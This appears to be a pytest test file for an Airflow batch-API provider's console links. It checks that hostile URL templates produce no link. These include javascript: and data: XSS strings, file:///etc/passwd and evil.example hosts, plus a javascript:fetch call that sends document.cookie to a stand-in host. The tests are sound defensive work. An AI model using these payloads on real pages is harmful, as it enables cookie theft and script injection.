"""Extra links: which page a connection's batches have, one link per batch slot, provider registration."""

from __future__ import annotations

import importlib
from pathlib import Path
from typing import Any

import pytest
from airflow.sdk.exceptions import TaskDeferred

from airflow_batch_provider import links
from airflow_batch_provider.dialects import get_dialect
from airflow_batch_provider.get_provider_info import get_provider_info
from airflow_batch_provider.hooks.connection_form import CONN_FIELDS
from airflow_batch_provider.hooks.settings import BatchApiSettings
from airflow_batch_provider.links import (
    BATCH_IDS_XCOM_KEY,
    MAX_BATCH_LINKS,
    batch_page_urls,
    is_local_server,
    origin_of,
    page_template,
)
from airflow_batch_provider.operators.submit import SubmitBatchOperator
from airflow_batch_provider.sensors.batch import BatchSensor
from tests.fixtures.airflow import write_batch_jsonl

IDS = ["batch_a", "batch_b"]


def settings(base_url: str, dialect: str = "openai", **extra: Any) -> BatchApiSettings:
    return BatchApiSettings(
        conn_id="c", base_url=base_url, dialect=get_dialect(dialect), api_key="sk-secret", extra=extra
    )


def test_the_vendor_console_only_on_the_vendors_own_host() -> None:
    assert batch_page_urls(settings("https://api.openai.com/v1"), IDS, probe=False) == [
        "https://platform.openai.com/batches/batch_a",
        "https://platform.openai.com/batches/batch_b",
    ]
    # The OpenAI dialect on another host (a proxy, vLLM...) is not OpenAI's console.
    assert batch_page_urls(settings("https://llm-proxy.internal/v1"), IDS, probe=False) == []
    # Vendors that document no per-batch page get no link rather than a guessed one.
    for dialect in ("doubleword", "xai", "zerogpu"):
        cls = get_dialect(dialect)
        assert cls.console_url_template is None
        assert batch_page_urls(settings(cls.default_base_url, dialect), IDS, probe=False) == []


def test_a_connection_template_overrides_and_none_turns_links_off() -> None:
    custom = settings(
        "https://api.doubleword.ai/v1", "doubleword", console_url_template="{origin}/b/{batch_id}"
    )
    assert batch_page_urls(custom, ["x:y"], probe=False) == ["https://api.doubleword.ai/b/x%3Ay"]
    off = settings("https://api.openai.com/v1", console_url_template="none")
    assert batch_page_urls(off, IDS, probe=False) == []
    assert (
        page_template(settings("http://h:1/v1", local_server=True), probe=False) == links.LOCAL_PAGE_TEMPLATE
    )
    assert page_template(settings("http://h:1/v1", local_server="false")) is None  # no probe when set


def test_the_local_server_is_recognised_by_its_health_answer(batch_server: Any) -> None:
    server = batch_server()
    assert origin_of(server.base_url) == server.root_url
    assert is_local_server(server.root_url)
    assert batch_page_urls(settings(server.base_url), IDS) == [
        f"{server.root_url}/ui/batches/{b}" for b in IDS
    ]
    # Anything else answering (or nothing at all) is not the local server.
    assert not is_local_server(f"{server.root_url}/v1")
    assert not is_local_server("http://127.0.0.1:9", timeout=0.5)


@pytest.mark.parametrize(
    "template",
    [
        "javascript:alert(document.cookie)//{batch_id}",
        "JavaScript:alert(1)//{batch_id}",
        "java\tscript:alert(1)//{batch_id}",
        " javascript:alert(1)//{batch_id}",
        "data:text/html,<script>alert(1)</script>{batch_id}",
        "file:///etc/passwd#{batch_id}",
        "vbscript:msgbox({batch_id})",
        "ftp://files.example/{batch_id}",
        "http://evil.example/{batch_id}",
        "https://user:pw@evil.example/{batch_id}",
        "//evil.example/{batch_id}",
        "/ui/batches/{batch_id}",
        "https:///{batch_id}",
    ],
)
def test_a_template_that_is_not_a_web_page_gives_no_link(template: str, caplog: Any) -> None:
    conn = settings("https://llm-proxy.internal/v1", console_url_template=template)
    with caplog.at_level("WARNING", logger="airflow_batch_provider.links"):
        assert batch_page_urls(conn, IDS, probe=False) == []
    assert "No batch page links for connection 'c'" in caplog.text
    assert "sk-secret" not in caplog.text
    assert "alert" not in caplog.text and "passwd" not in caplog.text


def test_a_dialect_console_template_is_held_to_the_same_rule(caplog: Any) -> None:
    class Sneaky(type(get_dialect("openai"))):  # type: ignore[misc]
        console_url_template = "javascript:fetch('//evil/'+document.cookie)//{batch_id}"

    conn = BatchApiSettings(conn_id="c", base_url="https://api.openai.com/v1", dialect=Sneaky())
    assert batch_page_urls(conn, IDS, probe=False) == []
    assert "'javascript' URL" in caplog.text


@pytest.mark.parametrize(
    ("base_url", "template", "expected"),
    [
        (
            "https://gw.example/v1",
            "https://console.example/b/{batch_id}",
            "https://console.example/b/batch_a",
        ),
        ("https://gw.example/v1", "http://127.0.0.1:9/ui/{batch_id}", "http://127.0.0.1:9/ui/batch_a"),
        ("https://gw.example/v1", "http://localhost:3000/{batch_id}", "http://localhost:3000/batch_a"),
        ("https://gw.example/v1", "http://[::1]:8/{batch_id}", "http://[::1]:8/batch_a"),
        # The local server in a compose network: plain http, but the API's own host.
        (
            "http://batch-server:8000/v1",
            "{origin}/ui/batches/{batch_id}",
            "http://batch-server:8000/ui/batches/batch_a",
        ),
    ],
)
def test_web_pages_are_linked(base_url: str, template: str, expected: str) -> None:
    assert batch_page_urls(settings(base_url, console_url_template=template), IDS[:1], probe=False) == [
        expected
    ]


def test_a_batch_id_fills_one_segment_and_a_path_id_gets_no_link() -> None:
    conn = settings("https://gw.example/v1", console_url_template="https://console.example/b/{batch_id}/view")
    got = batch_page_urls(conn, ["../../admin", "x/y", "b:1 ", "b:1", "b%2F"], probe=False)
    assert got == ["", "", "", "https://console.example/b/b%3A1/view", ""]


class FakeTaskInstanceKey:
    dag_id, run_id, task_id, map_index, try_number = "d", "r", "submit", -1, 1


class FakeOperator:
    def __init__(self, conn: BatchApiSettings) -> None:
        self.conn = conn
        self.hook_calls = 0

    def hook(self) -> Any:
        self.hook_calls += 1
        conn = self.conn

        class Hook:
            def get_settings(self) -> BatchApiSettings:
                return conn

        return Hook()


def test_each_slot_links_its_batch_from_the_tasks_xcom(monkeypatch: pytest.MonkeyPatch) -> None:
    from airflow.sdk.execution_time import xcom

    asked: list[str] = []

    def get_value(*, ti_key: Any, key: str) -> Any:
        asked.append(key)
        return IDS

    monkeypatch.setattr(xcom.XCom, "get_value", staticmethod(get_value))
    operator = FakeOperator(settings("https://api.openai.com/v1"))
    got = [
        link.get_link(operator, ti_key=FakeTaskInstanceKey())
        for link in SubmitBatchOperator.operator_extra_links
    ]  # type: ignore[arg-type]
    assert got == [*(f"https://platform.openai.com/batches/{b}" for b in IDS), "", ""]
    # Computed once for the four slots.
    assert asked == [BATCH_IDS_XCOM_KEY] and operator.hook_calls == 1


def test_a_link_failure_is_no_task_failure(monkeypatch: pytest.MonkeyPatch, caplog: Any) -> None:
    from airflow.sdk.execution_time import xcom

    def get_value(*, ti_key: Any, key: str) -> Any:
        raise RuntimeError("sk-secret leaked?")

    monkeypatch.setattr(xcom.XCom, "get_value", staticmethod(get_value))
    link = BatchSensor.operator_extra_links[0]
    assert (
        link.get_link(FakeOperator(settings("https://api.openai.com/v1")), ti_key=FakeTaskInstanceKey()) == ""
    )  # type: ignore[arg-type]
    assert "sk-secret" not in caplog.text


def test_links_are_declared_and_registered() -> None:
    for operator in (SubmitBatchOperator, BatchSensor):
        names = [link.name for link in operator.operator_extra_links]
        assert names == [f"Batch {i + 1}" for i in range(MAX_BATCH_LINKS)]
        assert len({link.xcom_key for link in operator.operator_extra_links}) == MAX_BATCH_LINKS
    registered = get_provider_info()["extra-links"]
    assert len(registered) == MAX_BATCH_LINKS
    for path in registered:
        module, _, name = path.rpartition(".")
        assert getattr(importlib.import_module(module), name) in links.BATCH_PAGE_LINK_CLASSES
    assert "console_url_template" in CONN_FIELDS and "local_server" in CONN_FIELDS


def test_submit_and_sensor_push_their_batch_ids_before_any_wait(
    batch_server: Any, monkeypatch: pytest.MonkeyPatch, task_context: Any, tmp_path: Path
) -> None:
    server = batch_server(time_scale=1.0, validate_seconds=60)  # the batch stays unfinished
    monkeypatch.setenv("AIRFLOW_CONN_BATCH_API_DEFAULT", server.connection_json())
    source = write_batch_jsonl(tmp_path / "in.jsonl", lines=3)
    submit_context = task_context()
    submitted = SubmitBatchOperator(task_id="submit", source=str(source)).execute(submit_context)
    assert submit_context["ti"].xcom[BATCH_IDS_XCOM_KEY] == submitted["batch_ids"]
    # The sensor records its ids before it defers, so the links show while the batch runs.
    sensor_context = task_context(task_id="wait")
    with pytest.raises(TaskDeferred):
        BatchSensor(task_id="wait", batch_ids=submitted).execute(sensor_context)
    assert sensor_context["ti"].xcom[BATCH_IDS_XCOM_KEY] == submitted["batch_ids"]
    links.push_batch_ids({}, ["b1"])  # a context without a task instance: nothing to record
